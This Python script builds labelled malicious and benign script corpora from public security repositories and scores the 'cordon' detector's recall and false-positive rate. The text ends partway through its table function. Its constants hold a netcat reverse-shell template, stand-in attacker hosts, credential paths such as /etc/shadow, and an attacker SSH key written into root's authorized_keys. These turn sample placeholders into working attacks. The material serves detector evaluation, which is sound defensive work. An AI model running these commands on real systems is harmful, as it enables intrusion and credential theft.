#!/usr/bin/env python3
"""Build labelled development corpora from fetched public snapshots and score cordon on them.

What this owns: turning bare git snapshots of public repositories into one file per sample,
labelled malicious or benign per language (bash, python, javascript), running
`cordon analyze --format json` over them, and writing the scores (a Markdown table to paste
into the README) and the per-sample misses and false alarms that the detection work reads.
What it must not do: execute any sample (only `bash -n` syntax checks and Python's `ast.parse`
read them), go online (the snapshots are fetched beforehand, see SOURCES), or write into the
repository (samples are third-party code and are never committed; the default work dir is
/work/corpus).

Usage (Python 3.11; PyYAML is needed for the YAML-based sources):
    python3 scripts/corpus.py build  [--mirror /work/.mirror] [--out /work/corpus]
    python3 scripts/corpus.py score  --cordon target/release/cordon [--out /work/corpus]
    python3 scripts/corpus.py all    --cordon target/release/cordon   # build then score

The snapshots are bare git directories at <mirror>/<owner>+<name>/repo (what the team's
fetch tool produces); each sample records the repository, the commit it was read from and
its path there in <out>/manifest.jsonl.

Labelling rules (why a sample is malicious "in a gateway sense": code a gateway must not run
for an anonymous submitter):
  * GTFOBins: entries of the functions shell, command, reverse-shell, bind-shell, file-read,
    file-write and upload, each in its plain form and in its SUID form when that differs
    (`-p`). Placeholders are made concrete so the sample does harm: file-read and upload read a
    credential (/etc/shadow, a private SSH key, cloud credentials); file-write appends an
    attacker's key to root's authorized_keys; command runs a netcat reverse shell; the
    attacker's host and port become an address. Dropped: download, library-load,
    privilege-escalation and inherit entries; entries whose payload is typed into an
    interactive program (a bare program start followed by lines that are its input, such as
    `vi` then `:!/bin/sh`, which a script cannot do as written); shell entries with no shell in
    them (`screen`, `fish`) or that are a bare shell (`dash`); file-read, upload, file-write and
    command entries whose file or command is not in the code (a package or patch prepared
    elsewhere); code that `bash -n` rejects.
  * Atomic Red Team: Linux tests run by sh or bash (`command` only, not prerequisites or
    cleanup), input arguments replaced by their defaults. Discovery techniques (uname, ps, ls
    of /etc, ...) are left out of both labels: a gateway has no reason to refuse them and they
    are not benign examples either. So are the tests listed in ATOMIC_HARMLESS, whose command
    as written only simulates (echo a message, touch or chmod a file in /tmp, encode "hello").
  * reverse-shell-generator: its reverse and bind shell templates for Linux and macOS that are
    shell commands (bash) or Node code (javascript); templates in other languages (C, Java,
    PowerShell, msfvenom invocations, raw shellcode) are dropped.
  * GuardDog: source-code rule fixtures for Python and npm, cut into top-level chunks; a chunk
    holding a `ruleid:` marker is malicious, a chunk holding only `ok:` markers is benign
    (source `guarddog-ok`, reported on its own row because GuardDog's "ok" means "not this
    rule", often fragments such as `exec(open("version.py").read())`), plus the files under
    `benign/` as benign. Left out: fixtures of rules whose chunk holds no harm a gateway can
    see (cmd-overwrite, clipboard-access, screenshot, shady-links; see GUARDDOG_NOT_GATEWAY).
  * Embedded code: a malicious bash sample that is `python -c '...'` or `node -e '...'` also
    yields the inner program as a malicious Python or JavaScript sample.
  * Benign: scripts people wrote for use, from well-known repositories (version managers, a
    test runner, small CLI tools and everyday automation scripts, a web framework's examples
    and a CLI library); bash files must pass `bash -n`, Python files `ast.parse`.
A sample counts as caught when cordon says deny or review (recall), a benign one as flagged
when it says deny or review (false-positive rate); the denied share is reported separately.
"""

from __future__ import annotations

import argparse
import ast
import datetime
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

# Every repository the corpora come from, with the commit the README figures were made at.
# `build` reads that commit when the snapshot has it (a newer snapshot still has it in its
# history), else the snapshot's HEAD with a warning; each sample records the commit it came from.
SOURCES = {
    # malicious
    "GTFOBins/GTFOBins.github.io": "7382261ef936e35896ba70e7a6b833352ffb9a22",
    "redcanaryco/atomic-red-team": "9f85cf3e54b0cbdd6c702375c555273913eff442",
    "0dayCTF/reverse-shell-generator": "9fda27f91b1b1f370539dd534bc3bbb1f6b49bf6",
    "DataDog/guarddog": "ca8b5b43d1454c89c03fb2acecf0716781c2a745",
    # benign
    "pyenv/pyenv": "bec9a562a59e48a730fe3320fe90c6999c82886c",
    "rbenv/rbenv": "23c3041695feb811c18dbb270096c7956f7c377d",
    "bats-core/bats-core": "d22e41faad59f5fd942a88c992b4913a27a460c4",
    "alexanderepstein/Bash-Snippets": "581a6b4ea681005e3f8add37dbed74aaec65479f",
    "hastagAB/Awesome-Python-Scripts": "f0ea440d412b9b079e3346600f24c74a8ea96386",
    "expressjs/express": "a3714473feb3d2908add734d340e7755fd85e0a3",
    "tj/commander.js": "ba6d13ddb4243e5913367734f8c159089ffe7834",
    "shelljs/shelljs": "ed9f79aaf0a0a60c57eada9df701a1074e59396b",
}

LANGS = ("bash", "python", "javascript")
EXT = {"bash": "sh", "python": "py", "javascript": "js"}
MAX_BYTES = 256 * 1024

# Concrete values for placeholders, varied per sample so no detector can key on one address.
HOSTS = ["10.0.0.1", "192.168.56.101", "attacker.example.net", "172.16.5.9", "evil.example.org"]
PORTS = ["4444", "9001", "1337", "12345", "8443"]
SECRETS = ["/etc/shadow", "/root/.ssh/id_rsa", "/home/user/.aws/credentials", "/etc/shadow"]
REVSHELL_CMD = "nc -e /bin/sh {host} {port}"
SSH_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK9mQx attacker@evil"

# MITRE ATT&CK Discovery techniques (TA0007): left out of the Atomic corpus, see the doc.
DISCOVERY = {
    "T1007", "T1010", "T1012", "T1016", "T1018", "T1033", "T1046", "T1049", "T1057", "T1069",
    "T1082", "T1083", "T1087", "T1120", "T1124", "T1135", "T1201", "T1217", "T1482", "T1497",
    "T1518", "T1526", "T1538", "T1580", "T1613", "T1614", "T1615", "T1619", "T1652", "T1654",
}


@dataclass
class Sample:
    lang: str
    label: str  # "malicious" | "benign"
    source: str  # short source name, a row of the table
    repo: str
    commit: str
    origin: str  # path in the repository (and entry) the sample came from
    name: str  # file stem, unique within lang/label/source
    code: str
    note: str = ""
    path: str = field(default="")


class Repo:
    """A bare git snapshot read with git plumbing (nothing is checked out)."""

    def __init__(self, mirror: Path, name: str):
        self.name = name
        self.git_dir = mirror / name.replace("/", "+") / "repo"
        if not self.git_dir.is_dir():
            raise FileNotFoundError(f"snapshot of {name} not found at {self.git_dir}")
        pinned = SOURCES.get(name)
        has_pinned = pinned and subprocess.run(
            ["git", f"--git-dir={self.git_dir}", "cat-file", "-e", f"{pinned}^{{commit}}"],
            capture_output=True,
        ).returncode == 0
        if pinned and not has_pinned:
            print(f"warning: {name} has no commit {pinned[:12]}; reading its HEAD", file=sys.stderr)
        self.commit = pinned if has_pinned else self._git("rev-parse", "HEAD").strip()

    def _git(self, *args: str) -> str:
        return subprocess.run(
            ["git", f"--git-dir={self.git_dir}", *args],
            check=True, capture_output=True, text=True, errors="replace",
        ).stdout

    def files(self) -> list[tuple[str, int]]:
        out = self._git("ls-tree", "-r", "-l", self.commit)
        res = []
        for line in out.splitlines():
            meta, _, path = line.partition("\t")
            parts = meta.split()
            if len(parts) == 4 and parts[1] == "blob" and parts[3].isdigit():
                res.append((path, int(parts[3])))
        return res

    def read(self, path: str) -> str:
        return self._git("show", f"{self.commit}:{path}")


def pick(seq: list[str], key: str) -> str:
    h = int(hashlib.sha256(key.encode()).hexdigest()[:8], 16)
    return seq[h % len(seq)]


def slug(s: str) -> str:
    return re.sub(r"[^A-Za-z0-9._-]+", "_", s).strip("_")[:80] or "x"


def bash_syntax_ok(code: str) -> bool:
    """`bash -n`: parses only, never executes."""
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as f:
        f.write(code)
        p = f.name
    try:
        r = subprocess.run(["bash", "-n", p], capture_output=True, timeout=20)
        return r.returncode == 0
    except subprocess.TimeoutExpired:
        return False
    finally:
        os.unlink(p)


def python_syntax_ok(code: str) -> bool:
    try:
        ast.parse(code)
        return True
    except (SyntaxError, ValueError):
        return False


# ---------------------------------------------------------------- embedded programs


EMBED_RE = re.compile(
    r"""(?:^|[\s;&|(`])(?P<prog>python[0-9.]*|node(?:js)?)\s+(?:-[A-Za-z]+\s+)*?-(?P<flag>[ce])\s*"""
    r"""(?:'(?P<sq>[^']*)'|"(?P<dq>(?:[^"\\]|\\.)*)")""",
    re.S,
)


def embedded(sample: Sample) -> list[Sample]:
    """The Python or Node program of `python -c '...'` / `node -e '...'` as its own sample."""
    out = []
    for i, m in enumerate(EMBED_RE.finditer(sample.code)):
        prog = m.group("prog")
        lang = "python" if prog.startswith("python") else "javascript"
        if (lang == "python") != (m.group("flag") == "c"):
            continue
        inner = m.group("sq")
        if inner is None:
            inner = re.sub(r'\\([\\"$`])', r"\1", m.group("dq"))
        inner = inner.strip()
        if len(inner) < 12:
            continue
        if lang == "python" and not python_syntax_ok(inner):
            continue
        out.append(Sample(
            lang=lang, label=sample.label, source=sample.source + "-embedded",
            repo=sample.repo, commit=sample.commit, origin=sample.origin + f" ({prog} -{m.group('flag')})",
            name=f"{sample.name}-{i}", code=inner + "\n", note="inner program of a shell sample",
        ))
    return out


# ---------------------------------------------------------------- GTFOBins


GTFO_FUNCS = ("shell", "command", "reverse-shell", "bind-shell", "file-read", "file-write", "upload")
SHELL_RE = re.compile(r"(?<![\w-])(?:/bin/|/usr/bin/)?(?:ba|da|z|k|a)?sh(?![\w-])")


def gtfo_concrete(code: str, fn: str, key: str) -> str:
    host, port = pick(HOSTS, key + "h"), pick(PORTS, key + "p")
    secret = pick(SECRETS, key + "s")
    payload = REVSHELL_CMD.format(host=host, port=port)
    # An unquoted option or assignment value must stay one word.
    code = re.sub(r"(?<==)/path/to/command(?=\s|$)", f"'{payload}'", code)
    reads = fn in ("file-read", "upload")
    subs = [
        ("/path/to/command", payload),
        ("/path/to/input-file", secret if reads else "/tmp/in.txt"),
        ("/path/to/file-input", secret if reads else "/tmp/in.txt"),
        ("path/to/input-file", secret.lstrip("/") if reads else "tmp/in.txt"),
        ("/path/to/input-dir", "/root/.ssh" if reads else "/tmp/indir"),
        ("/path/to/output-file", "/root/.ssh/authorized_keys" if fn == "file-write" else "/tmp/out.txt"),
        ("/path/to/output-dir", "/root/.ssh" if fn == "file-write" else "/tmp/outdir"),
        ("/path/to/temp-file", "/tmp/tf"),
        ("/path/to/temp-dir", "/tmp/td"),
        ("/path/to/temp-socket", "/tmp/tsock"),
        ("/path/to/socket", "/tmp/sock"),
        ("/path/to/script", "/tmp/s.sh"),
        ("/path/to/wordlist", "/tmp/words"),
        ("/path/to/lib", "/tmp/lib.so"),
        ("/path/to/dir", "/tmp/d"),
        ("attacker.com", host),
        ("12345", port),
    ]
    for a, b in subs:
        code = code.replace(a, b)
    if fn == "file-write":
        code = re.sub(r"\bDATA\b", SSH_KEY, code)
    return code


SHELL_WORDS = set(
    "if then else elif fi for while until do done case esac function { } ( ) [[ ! . : source export "
    "cd echo printf read set unset eval exec trap wait kill test [ true false local declare typeset "
    "ulimit umask alias shift return exit break continue let time".split()
)


def starts_command(line: str, binary: str) -> bool:
    words = line.split()
    while words and re.match(r"^[A-Za-z_]\w*=", words[0]):
        words = words[1:]
    if not words:
        return True
    w = words[0].lstrip("({")
    return (not w or w in SHELL_WORDS or w.startswith(("/", "./", "$", "#")) or w == binary
            or shutil.which(w) is not None or w in ("sudo", "nc", "python", "python3", "node", "perl"))


def gtfo_interactive(code: str, binary: str) -> bool:
    """Lines typed into a program started by the sample rather than run by the shell.

    Either a bare program start followed by more lines, or lines after the program start that
    do not begin with a command (`iDATA`, `^[`, `:!/bin/sh`)."""
    lines = [l for l in code.strip().splitlines() if l.strip()]
    for i, line in enumerate(lines):
        words = line.split()
        while words and (re.match(r"^\w+=", words[0]) or words[0] in ("sudo", "env")):
            words = words[1:]
        if not words or not os.path.basename(words[0]).startswith(binary):
            continue
        if i == len(lines) - 1 or "<<" in line or line.rstrip().endswith(("\\", "|", "&&")):
            return False
        if line.count("'") % 2 or line.count('"') % 2:  # a quoted program spanning lines
            return False
        rest = lines[i + 1:]
        if not all(starts_command(l, binary) for l in rest):
            return True
        bare = all(w.startswith("-") or re.fullmatch(r"[\w.:-]+", w) for w in words[1:])
        nxt = rest[0].split()[0]
        return bare and nxt != binary and ("/" in nxt or shutil.which(nxt) is None)
    return False


def gtfobins(repo: Repo) -> tuple[list[Sample], dict]:
    import yaml  # noqa: PLC0415 - only this source and Atomic need it

    out, dropped = [], {}
    for path, size in repo.files():
        if not path.startswith("_gtfobins/") or size > MAX_BYTES:
            continue
        binary = path.split("/", 1)[1]
        text = repo.read(path)
        try:
            doc = yaml.safe_load(re.sub(r"^\.\.\.\s*$", "", text, flags=re.M).replace("---\n", "", 1))
        except yaml.YAMLError:
            dropped["yaml"] = dropped.get("yaml", 0) + 1
            continue
        for fn, entries in ((doc or {}).get("functions") or {}).items():
            if fn not in GTFO_FUNCS:
                continue
            for i, e in enumerate(entries or []):
                codes = [("", e.get("code") or "")]
                suid = ((e.get("contexts") or {}).get("suid") or {})
                if isinstance(suid, dict) and suid.get("code") and suid["code"] != codes[0][1]:
                    codes.append(("-suid", suid["code"]))
                for tag, raw in codes:
                    why = None
                    if not raw.strip():
                        why = "empty"
                    elif gtfo_interactive(raw, binary):
                        why = "interactive"
                    elif fn == "shell" and not SHELL_RE.search(raw):
                        why = "no shell"
                    elif fn in ("upload", "file-read") and not re.search(r"path/to/(input-file|file-input|input-dir)", raw):
                        why = "reads no named file"
                    elif fn == "file-write" and not re.search(r"/path/to/output-(file|dir)", raw):
                        why = "writes no named file"
                    elif fn == "command" and "/path/to/command" not in raw:
                        why = "payload not in the code"
                    elif fn == "shell" and re.fullmatch(r"\s*(/bin/|/usr/bin/)?(ba|da|z|k|a|c|tc)?sh\s*", raw):
                        why = "bare shell"
                    key = f"{binary}-{fn}-{i}{tag}"
                    code = gtfo_concrete(raw, fn, key) + "\n"
                    if why is None and not bash_syntax_ok(code):
                        why = "bash -n"
                    if why:
                        dropped[why] = dropped.get(why, 0) + 1
                        continue
                    out.append(Sample("bash", "malicious", "gtfobins", repo.name, repo.commit,
                                      f"{path}#{fn}[{i}]{tag}", key, code, note=fn))
    return out, dropped


# ---------------------------------------------------------------- Atomic Red Team


# Atomic tests whose command as written does nothing a gateway must refuse: they simulate a
# technique with a harmless stand-in (a script that echoes, a file in a scratch dir, a lookup).
ATOMIC_HARMLESS = {
    "T1027.001-1", "T1027.013-2", "T1030-0", "T1036.007-1", "T1036.008-0", "T1059.004-0",
    "T1059.004-4", "T1059.004-6", "T1059.004-7", "T1059.004-12", "T1070.003-7", "T1070.004-0",
    "T1070.004-1", "T1070.006-0", "T1070.006-1", "T1070.006-3", "T1140-5", "T1140-7",
    "T1222.002-0", "T1222.002-1", "T1222.002-2", "T1222.002-3", "T1564.001-0", "T1569.003-5",
    "T1686-16", "T1548.001-8", "T1548.001-9", "T1560.001-5", "T1140-2", "T1140-3", "T1140-4",
}


def atomic(repo: Repo) -> tuple[list[Sample], dict]:
    import yaml  # noqa: PLC0415

    out, dropped = [], {}
    for path, size in repo.files():
        m = re.fullmatch(r"atomics/(T\d+(?:\.\d+)?)/\1\.yaml", path)
        if not m or size > 2 * MAX_BYTES:
            continue
        tid = m.group(1)
        if tid.split(".")[0] in DISCOVERY:
            dropped["discovery"] = dropped.get("discovery", 0) + 1
            continue
        try:
            doc = yaml.safe_load(repo.read(path))
        except yaml.YAMLError:
            dropped["yaml"] = dropped.get("yaml", 0) + 1
            continue
        for i, t in enumerate((doc or {}).get("atomic_tests") or []):
            if "linux" not in (t.get("supported_platforms") or []):
                continue
            ex = t.get("executor") or {}
            if ex.get("name") not in ("sh", "bash") or not ex.get("command"):
                dropped["executor"] = dropped.get("executor", 0) + 1
                continue
            if f"{tid}-{i}" in ATOMIC_HARMLESS:
                dropped["harmless as written"] = dropped.get("harmless as written", 0) + 1
                continue
            code = str(ex["command"])
            for k, v in (t.get("input_arguments") or {}).items():
                d = (v or {}).get("default")
                code = code.replace("#{" + str(k) + "}", "" if d is None else str(d))
            code = re.sub(r"\$?\{?PathToAtomicsFolder\}?", "/tmp/atomics", code).strip() + "\n"
            if not bash_syntax_ok(code):
                dropped["bash -n"] = dropped.get("bash -n", 0) + 1
                continue
            out.append(Sample("bash", "malicious", "atomic", repo.name, repo.commit,
                              f"{path}#{i}", f"{tid}-{i}", code, note=str(t.get("name", ""))[:80]))
    return out, dropped


# ---------------------------------------------------------------- reverse-shell-generator


RSG_ENTRY = re.compile(
    r'^\s*\{\s*"name"\s*:\s*"(?P<name>[^"]*)"\s*,\s*"command"\s*:\s*'
    r'(?:"(?P<dq>(?:[^"\\]|\\.)*)"|`(?P<bt>(?:[^`\\]|\\.)*)`)\s*,\s*"meta"\s*:\s*\[(?P<meta>[^\]]*)\]',
    re.M | re.S,
)
RSG_BASH_START = re.compile(
    r"^(\{shell\}|0<&|exec |rm |nc |busybox |ncat |C=|rcat |mkfifo |perl |php -r|python[0-9]* -c|"
    r"export |ruby |socat |sqlite3 |TF=|zsh |lua[0-9.]* -e|echo |awk |crystal eval|telnet )"
)


def js_unescape(s: str) -> str:
    return re.sub(
        r"\\(u[0-9a-fA-F]{4}|x[0-9a-fA-F]{2}|.)",
        lambda m: (chr(int(m.group(1)[1:], 16)) if m.group(1)[0] in "ux" and len(m.group(1)) > 1
                   else {"n": "\n", "r": "\r", "t": "\t"}.get(m.group(1), m.group(1))),
        s, flags=re.S,
    )


def rsg(repo: Repo) -> tuple[list[Sample], dict]:
    text = repo.read("js/data.js")
    # templates between the first list and the msfvenom list: reverse and bind shells
    end = text.find("const msfvenomCommands")
    text = text[: end if end > 0 else len(text)]
    out, dropped = [], {}
    for m in RSG_ENTRY.finditer(text):
        if text[max(0, text.rfind("\n", 0, m.start()) + 1): m.start()].lstrip().startswith("//"):
            continue
        name = m.group("name")
        meta = re.findall(r'"(\w+)"', m.group("meta"))
        if not ({"linux", "mac"} & set(meta)):
            dropped["windows"] = dropped.get("windows", 0) + 1
            continue
        raw = js_unescape(m.group("dq")) if m.group("dq") is not None else m.group("bt")
        key = slug(name)
        code = (raw.replace("{ip}", pick(HOSTS, key + "h")).replace("{port}", pick(PORTS, key + "p"))
                .replace("{shell}", pick(["/bin/sh", "bash", "sh", "/bin/bash"], key)))
        if name.lower().startswith("node"):
            lang = "javascript"
        elif RSG_BASH_START.match(raw):
            lang = "bash"
            if not bash_syntax_ok(code + "\n"):
                dropped["bash -n"] = dropped.get("bash -n", 0) + 1
                continue
        else:
            dropped["other language"] = dropped.get("other language", 0) + 1
            continue
        out.append(Sample(lang, "malicious", "revshells", repo.name, repo.commit,
                          f"js/data.js#{name}", key, code + "\n", note=name))
    return out, dropped


# ---------------------------------------------------------------- GuardDog


def chunks(text: str, lang: str) -> list[str]:
    """Top-level chunks: a new chunk starts at a non-indented line after a blank line."""
    res, cur, blank = [], [], False
    for line in text.splitlines():
        if not line.strip():
            blank = True
            cur.append(line)
            continue
        top = not line[0].isspace() and not line.startswith((")", "]", "}", "else", "elif", "except", "finally", "catch"))
        if blank and top and any(l.strip() for l in cur):
            res.append("\n".join(cur).strip("\n"))
            cur = []
        blank = False
        cur.append(line)
    if any(l.strip() for l in cur):
        res.append("\n".join(cur).strip("\n"))
    return res


def js_syntax_ok(code: str) -> bool:
    """`node --check`: parses only, never executes."""
    node = shutil.which("node")
    if not node:
        return True
    with tempfile.NamedTemporaryFile("w", suffix=".js", delete=False) as f:
        f.write(code)
        p = f.name
    try:
        return subprocess.run([node, "--check", p], capture_output=True, timeout=20).returncode == 0
    except subprocess.TimeoutExpired:
        return False
    finally:
        os.unlink(p)


# GuardDog rules whose fixtures are not harmful code in a gateway: the harm lives outside the
# chunk (cmd-overwrite: a setup() naming a command class defined elsewhere), needs a desktop the
# sandbox does not have (clipboard, screenshot), or is a domain's reputation (shady-links).
GUARDDOG_NOT_GATEWAY = {"cmd-overwrite", "clipboard-access", "screenshot", "shady-links"}


def guarddog(repo: Repo) -> tuple[list[Sample], dict]:
    out, dropped = [], {}
    for path, size in repo.files():
        if not path.startswith("tests/analyzer/sourcecode/") or size > MAX_BYTES:
            continue
        if path.endswith(".py"):
            lang = "python"
        elif path.endswith(".js"):
            lang = "javascript"
        else:
            continue
        if path.endswith("test_sourcecode_yara.py") or "/test_" in path:
            continue
        text = repo.read(path)
        stem = slug(path.rsplit("/", 1)[1].rsplit(".", 1)[0])
        ok = python_syntax_ok if lang == "python" else js_syntax_ok
        if "/benign/" in path:
            if ok(text):
                out.append(Sample(lang, "benign", "guarddog-benign", repo.name, repo.commit, path, stem, text))
            else:
                dropped["syntax"] = dropped.get("syntax", 0) + 1
            continue
        for i, c in enumerate(chunks(text, lang)):
            has_rule = re.search(r"(#|//)\s*ruleid\s*:", c)
            has_ok = re.search(r"(#|//)\s*ok\s*:", c)
            if not has_rule and not has_ok:
                continue
            label = "malicious" if has_rule else "benign"
            rule = re.search(r"(?:#|//)\s*(?:ruleid|ok)\s*:\s*([\w-]+)", c)
            if rule and rule.group(1) in GUARDDOG_NOT_GATEWAY:
                dropped[rule.group(1)] = dropped.get(rule.group(1), 0) + 1
                continue
            if not ok(c + "\n"):
                dropped["syntax"] = dropped.get("syntax", 0) + 1
                continue
            src = "guarddog" if label == "malicious" else "guarddog-ok"
            out.append(Sample(lang, label, src, repo.name, repo.commit, f"{path}#chunk{i}",
                              f"{stem}-{i}", c + "\n"))
    return out, dropped


# ---------------------------------------------------------------- benign repositories


def is_shell_script(path: str, head: str) -> bool:
    if path.endswith((".sh", ".bash")):
        return True
    first = head.split("\n", 1)[0]
    return bool(re.match(r"#!\s*\S*(/bash|/sh|env\s+(-\S+\s+)*(bash|sh))\b", first))


def benign_bash(repo: Repo, source: str, skip: re.Pattern | None = None) -> tuple[list[Sample], dict]:
    out, dropped = [], {}
    for path, size in repo.files():
        if size > MAX_BYTES or size == 0 or (skip and skip.search(path)):
            continue
        if re.search(r"\.(md|txt|json|ya?ml|png|gif|jpe?g|svg|1|ronn|html|rst|py|rb|c|h|patch|fish|zsh|ps1|pwsh|bat|gz|bats|adoc|in)$", path):
            continue
        text = repo.read(path)
        if not is_shell_script(path, text[:200]):
            continue
        if not bash_syntax_ok(text):
            dropped["bash -n"] = dropped.get("bash -n", 0) + 1
            continue
        out.append(Sample("bash", "benign", source, repo.name, repo.commit, path, slug(path), text))
    return out, dropped


def benign_files(repo: Repo, source: str, lang: str, include: re.Pattern,
                 skip: re.Pattern | None = None) -> tuple[list[Sample], dict]:
    out, dropped = [], {}
    ok = python_syntax_ok if lang == "python" else js_syntax_ok
    for path, size in repo.files():
        if size > MAX_BYTES or size == 0 or not include.search(path) or (skip and skip.search(path)):
            continue
        text = repo.read(path)
        if lang == "javascript" and max((len(l) for l in text.splitlines()), default=0) > 1000:
            dropped["minified"] = dropped.get("minified", 0) + 1
            continue
        if not ok(text):
            dropped["syntax"] = dropped.get("syntax", 0) + 1
            continue
        out.append(Sample(lang, "benign", source, repo.name, repo.commit, path, slug(path), text))
    return out, dropped


def collect(mirror: Path) -> tuple[list[Sample], list[str]]:
    samples, log = [], []

    def run(label, fn, *args):
        try:
            got, dropped = fn(*args)
        except FileNotFoundError as e:
            log.append(f"skipped {label}: {e}")
            return []
        log.append(f"{label}: {len(got)} samples; dropped {dropped or 'none'}")
        samples.extend(got)
        return got

    def repo(name):
        return Repo(mirror, name)

    def lazy(name, fn, *args):
        def go():
            return fn(repo(name), *args)
        return go

    for got in (
        run("gtfobins", lazy("GTFOBins/GTFOBins.github.io", gtfobins)),
        run("atomic", lazy("redcanaryco/atomic-red-team", atomic)),
        run("revshells", lazy("0dayCTF/reverse-shell-generator", rsg)),
    ):
        extra = [e for s in got if s.lang == "bash" for e in embedded(s)]
        samples.extend(extra)
        if extra:
            log.append(f"  + {len(extra)} embedded python/node programs")
    run("guarddog", lazy("DataDog/guarddog", guarddog))
    tests = re.compile(r"(^|/)(tests?|spec|fixtures|stubs)/")
    run("pyenv", lazy("pyenv/pyenv", benign_bash, "pyenv", tests))
    run("rbenv", lazy("rbenv/rbenv", benign_bash, "rbenv", tests))
    run("bats-core", lazy("bats-core/bats-core", benign_bash, "bats-core", tests))
    run("bash-snippets", lazy("alexanderepstein/Bash-Snippets", benign_bash, "bash-snippets", tests))
    run("awesome-python-scripts", lazy("hastagAB/Awesome-Python-Scripts", benign_files,
                                       "awesome-python-scripts", "python", re.compile(r"\.py$")))
    run("express", lazy("expressjs/express", benign_files, "express", "javascript",
                        re.compile(r"^(examples|lib)/.*\.js$|^index\.js$")))
    run("commander", lazy("tj/commander.js", benign_files, "commander", "javascript",
                          re.compile(r"^(examples|lib)/.*\.js$|^index\.js$")))
    run("shelljs", lazy("shelljs/shelljs", benign_files, "shelljs", "javascript",
                        re.compile(r"^(src|scripts|bin)/.*\.js$|^shell\.js$|^make\.js$")))
    return samples, log


def build(mirror: Path, out: Path) -> list[Sample]:
    samples, log = collect(mirror)
    for lang in LANGS:
        for label in ("malicious", "benign"):
            d = out / lang / label
            if d.exists():
                shutil.rmtree(d)
    seen: set[tuple[str, str]] = set()
    kept = []
    for s in samples:
        digest = hashlib.sha256(s.code.encode()).hexdigest()
        if (s.lang, digest) in seen:  # identical code once per language (GTFOBins repeats itself)
            continue
        seen.add((s.lang, digest))
        d = out / s.lang / s.label / s.source
        d.mkdir(parents=True, exist_ok=True)
        p = d / f"{s.name}.{EXT[s.lang]}"
        n = 1
        while p.exists():
            p = d / f"{s.name}~{n}.{EXT[s.lang]}"
            n += 1
        p.write_text(s.code, encoding="utf-8")
        s.path = str(p)
        kept.append(s)
    with open(out / "manifest.jsonl", "w", encoding="utf-8") as f:
        for s in kept:
            f.write(json.dumps({k: v for k, v in s.__dict__.items() if k != "code"}) + "\n")
    for line in log:
        print(line, file=sys.stderr)
    print(f"{len(kept)} samples ({len(samples) - len(kept)} duplicates dropped) under {out}", file=sys.stderr)
    return kept


# ---------------------------------------------------------------- scoring


def analyze(cordon: str, lang: str, paths: list[str], batch: int, policy: str | None) -> dict[str, dict]:
    res = {}
    for i in range(0, len(paths), batch):
        part = paths[i: i + batch]
        cmd = [cordon, "analyze", "--format", "json", "-l", lang]
        if policy:
            cmd += ["--policy", policy]
        r = subprocess.run(cmd + part, capture_output=True, text=True, errors="replace")
        if r.returncode not in (0, 1, 2, 3) or not r.stdout.strip():
            raise SystemExit(f"cordon analyze failed ({r.returncode}): {r.stderr[:2000]}")
        data = json.loads(r.stdout)
        if isinstance(data, dict):
            data = [data]
        for item in data:
            res[item["file"]] = item
    return res


def condensed(path: str, n: int = 3) -> str:
    try:
        lines = [l.strip() for l in Path(path).read_text(encoding="utf-8", errors="replace").splitlines() if l.strip()]
    except OSError:
        return ""
    s = " ⏎ ".join(lines[:n])
    return s[:300] + ("…" if len(s) > 300 else "")


def score(cordon: str, out: Path, batch: int, policy: str | None) -> None:
    manifest = [json.loads(l) for l in open(out / "manifest.jsonl", encoding="utf-8")]
    results = {}
    for lang in LANGS:
        paths = [m["path"] for m in manifest if m["lang"] == lang]
        if paths:
            results.update(analyze(cordon, lang, paths, batch, policy))
    report = out / "report"
    report.mkdir(parents=True, exist_ok=True)
    rows = []
    with open(out / "results.jsonl", "w", encoding="utf-8") as f:
        for m in manifest:
            r = results.get(m["path"])
            verdict = r["verdict"] if r else "missing"
            rules = sorted({x["rule_id"] for x in (r or {}).get("findings") or []})
            err = (r or {}).get("error")
            if err:
                rules.append("ERROR:" + (err.get("code") or err.get("reason") or "parse") if isinstance(err, dict) else "ERROR")
            where = [f"{x['rule_id']}@{(x.get('span') or {}).get('start_line', '?')}: "
                     + " ".join(str(x.get("snippet") or "").split())[:100]
                     for x in ((r or {}).get("findings") or [])[:3]]
            if isinstance(err, dict):
                where.append(" ".join(str(err.get("message", "")).split())[:160])
            m.update(verdict=verdict, rules=rules, risk=(r or {}).get("risk_score"), where=where)
            f.write(json.dumps(m) + "\n")
            rows.append(m)
    for lang in LANGS:
        for label, kind, bad in (("malicious", "missed", ("allow", "missing")),
                                 ("benign", "false-alarms", ("review", "deny"))):
            sel = sorted((m for m in rows if m["lang"] == lang and m["label"] == label and m["verdict"] in bad),
                         key=lambda m: (m["source"], m["path"]))
            with open(report / f"{lang}-{kind}.txt", "w", encoding="utf-8") as f:
                f.write(f"# {lang} {label} samples cordon {'let through' if kind == 'missed' else 'flagged'}: "
                        f"{len(sel)} (path\tverdict\trules\tfirst lines\tfirst findings: rule@line: snippet)\n")
                for m in sel:
                    f.write(f"{m['path']}\t{m['verdict']}\t{','.join(m['rules']) or '-'}\t{condensed(m['path'])}"
                            f"\t{' | '.join(m['where']) or '-'}\n")
    text = table(rows)
    stamp = (f"Scored {datetime.datetime.now(datetime.timezone.utc):%Y-%m-%d %H:%M} UTC with {cordon} "
             f"(policy {policy or 'default'}); sources: "
             + ", ".join(sorted({f"{m['repo']}@{m['commit'][:12]}" for m in rows})))
    (report / "SUMMARY.md").write_text(stamp + "\n\n" + text + "\n", encoding="utf-8")
    print(stamp + "\n\n" + text)


def pct(a: int, b: int) -> str:
    return f"{100 * a / b:.1f}%" if b else "-"


def table(rows: list[dict]) -> str:
    lines = ["| language | label | source | samples | denied | review | allowed | caught / flagged |",
             "|---|---|---|---:|---:|---:|---:|---:|"]
    summary = ["| language | malicious | recall (deny+review) | denied | benign | FP rate (deny+review) | FP denied |",
               "|---|---:|---:|---:|---:|---:|---:|"]
    for lang in LANGS:
        for label in ("malicious", "benign"):
            sel = [m for m in rows if m["lang"] == lang and m["label"] == label]
            for src in sorted({m["source"] for m in sel}):
                s = [m for m in sel if m["source"] == src]
                d = sum(m["verdict"] == "deny" for m in s)
                r = sum(m["verdict"] == "review" for m in s)
                lines.append(f"| {lang} | {label} | {src} | {len(s)} | {d} | {r} | {len(s) - d - r} | {pct(d + r, len(s))} |")
        mal = [m for m in rows if m["lang"] == lang and m["label"] == "malicious"]
